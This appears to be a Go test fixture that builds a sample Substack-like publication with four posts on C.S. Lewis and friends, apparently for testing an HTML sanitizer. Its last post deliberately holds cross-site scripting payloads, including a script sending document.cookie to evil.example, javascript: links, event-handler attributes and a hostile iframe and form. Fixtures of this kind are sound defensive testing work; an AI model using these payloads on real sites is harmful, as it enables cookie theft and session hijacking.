package substackfake

import "time"

// SampleLink is the home page of the sample publication.
const SampleLink = "https://inklingsdaily.substack.com"

// SampleChannel describes the sample publication.
func SampleChannel() Channel {
	return Channel{Title: "The Inklings Daily", Description: "Notes on Lewis, Tolkien and friends.",
		Link: SampleLink, Author: "Joy Davidman"}
}

// HostileGUID is the guid of the sample item whose body carries hostile
// HTML (see [SampleItems]).
const HostileGUID = SampleLink + "/p/an-unsafe-post"

// SampleItems returns four posts of the sample publication, newest first,
// with bodies in the markup Substack produces (captioned images, a
// subscribe button, footnotes, an embedded video). The last one
// (guid [HostileGUID]) carries hostile HTML: a script element, an
// onerror handler, a javascript: link, an iframe, inline styles and an
// event handler on a paragraph.
func SampleItems() []Item {
	day := func(d int) time.Time { return time.Date(2026, 11, d, 9, 30, 0, 0, time.UTC) }
	return []Item{
		{
			Title: "Till We Have Faces, revisited", Subtitle: "Why Orual’s complaint is the book’s answer.",
			Link: SampleLink + "/p/till-we-have-faces-revisited", Creator: "Joy Davidman", PubDate: day(20),
			ImageURL: "https://substack-post-media.s3.amazonaws.com/public/images/faces.jpeg",
			Body: `<p>Lewis thought it his best book. <strong>Few readers agreed</strong> at first, and <em>fewer still</em> read it twice.</p>` +
				`<div class="captioned-image-container"><figure><a class="image-link image2 is-viewable-img" target="_blank" href="https://substackcdn.com/image/fetch/faces.jpeg" data-component-name="Image2ToDOM">` +
				`<div class="image2-inset"><picture><source type="image/webp" srcset="https://substackcdn.com/image/fetch/w_424/faces.webp 424w" sizes="100vw">` +
				`<img src="https://substackcdn.com/image/fetch/faces.jpeg" width="1456" height="816" data-attrs="{&quot;src&quot;:&quot;faces.jpeg&quot;}" class="sizing-normal" alt="A veiled queen" loading="lazy"></picture>` +
				`<div class="image-link-expand"><svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><path d="M1 1"></path></svg></div></div></a>` +
				`<figcaption class="image-caption">Orual, veiled.</figcaption></figure></div>` +
				`<h2>The complaint</h2><p>“How can they meet us face to face till we have faces?”<a class="footnote-anchor" data-component-name="FootnoteAnchorToDOM" id="footnote-anchor-1" href="#footnote-1" target="_self">1</a></p>` +
				`<blockquote><p>I ended my first book with the words <em>no answer</em>.</p></blockquote>` +
				`<p class="button-wrapper" data-attrs="{}" data-component-name="ButtonCreateButton"><a class="button primary" href="https://inklingsdaily.substack.com/subscribe?"><span>Subscribe now</span></a></p>` +
				`<div class="footnote" data-component-name="FootnoteToDOM"><a id="footnote-1" href="#footnote-anchor-1" class="footnote-number" contenteditable="false" target="_self">1</a><div class="footnote-content"><p>Part II, chapter 4.</p></div></div>`,
		},
		{
			Title: "Reading list: the Ransom trilogy", Subtitle: "Three books, one order.",
			Link: SampleLink + "/p/reading-list-ransom", Creator: "Joy Davidman", PubDate: day(13),
			Body: `<p>In order:</p><ol><li><p>Out of the Silent Planet (1938)</p></li><li><p>Perelandra (1943)</p></li><li><p>That Hideous Strength (1945)</p></li></ol>` +
				`<p>Shorter notes:</p><ul><li>Start with the <a href="https://en.wikipedia.org/wiki/Space_Trilogy">Space Trilogy</a> article.</li><li>Skip the <code>1965</code> abridgement.</li></ul>` +
				`<div id="youtube2-abc123" class="youtube-wrap" data-attrs="{&quot;videoId&quot;:&quot;abc123&quot;}" data-component-name="Youtube2ToDOM"><div class="youtube-inner">` +
				`<iframe src="https://www.youtube-nocookie.com/embed/abc123?rel=0&amp;autoplay=0" frameborder="0" loading="lazy" gesture="media" allow="autoplay; fullscreen" allowautoplay="true" allowfullscreen="true" width="728" height="409"></iframe></div></div>` +
				`<hr><pre><code>ransom := "philologist"</code></pre>`,
		},
		{
			Title: "A short note", Subtitle: "",
			Link: SampleLink + "/p/a-short-note", Creator: "Warren Lewis", PubDate: day(6),
			Body: `<p>Brief, as promised &amp; no more: 2 * 3 = 6, and <em>that</em> is all.</p>`,
		},
		{
			Title: "An unsafe post", Subtitle: `Subtitle with <b>markup</b> & an <script>alert(1)</script>ampersand`,
			Link: HostileGUID, Creator: "Mallory", PubDate: day(1),
			Body: `<p onclick="steal()" style="color:red">Click <a href="javascript:alert(document.cookie)">here</a> or <a href="https://example.com/safe" onmouseover="steal()">there</a>.</p>` +
				`<script>fetch('https://evil.example/'+document.cookie)</script>` +
				`<img src="https://substackcdn.com/image/fetch/x.png" onerror="alert('xss')" alt="pic">` +
				`<img src="javascript:alert(2)" alt="bad">` +
				`<iframe src="https://evil.example/frame"></iframe>` +
				`<p>After <svg onload="alert(3)"><circle r="1"></circle></svg>the attack.</p>` +
				`<style>body{display:none}</style><form action="https://evil.example"><input name="q"></form>`,
		},
	}
}
